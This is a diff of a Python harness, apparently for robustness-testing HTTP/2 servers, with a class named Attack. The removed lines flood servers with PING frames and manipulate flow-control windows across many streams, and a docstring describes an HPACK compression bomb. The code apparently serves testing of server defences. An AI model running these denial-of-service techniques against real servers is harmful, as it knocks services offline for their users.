@@ -20,7 +20,7 @@ from harness.raw import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADE
                          Raw, field, frame, get, headers, priority, request_block, rst_stream, settings,
                          string, window_update)
 
-EXACT = 16 * 1024  # the body of /exact
+EXACT = 1000  # the body of /exact
 
 
 class Attack:
@@ -47,18 +47,10 @@ class Attack:
 
     def window_after_end(self):
         """Every window grows while ends of streams are in flight."""
-        def window(size):
-            return settings(initial_window_size=size)
+        from test_three_quick_deaths import grow_windows_at_the_end
         while self.goes_on:
-            with self.connect(preface=PREFACE + window(EXACT) + window_update(0, 1 << 30), receive_buffer=4096) as raw:
-                raw.send(b"".join(get(stream, "/exact") for stream in range(1, 200, 2)))
-                for _ in range(8):
-                    if not raw.send(frame(PING, 0, 0, b"narrower") * 12_500):
-                        break
-                    left = 120_000
-                    while left > 0 and (got := len(raw.socket.recv(4096))):
-                        left -= got
-                    raw.send(window(EXACT + 1) + window(EXACT))
+            self.connections += 1
+            grow_windows_at_the_end(self.address)
 
     def hpack_bomb(self):
         """A field of 4,000 bytes enters the table once, then 16,000 of it in 16,000 bytes."""
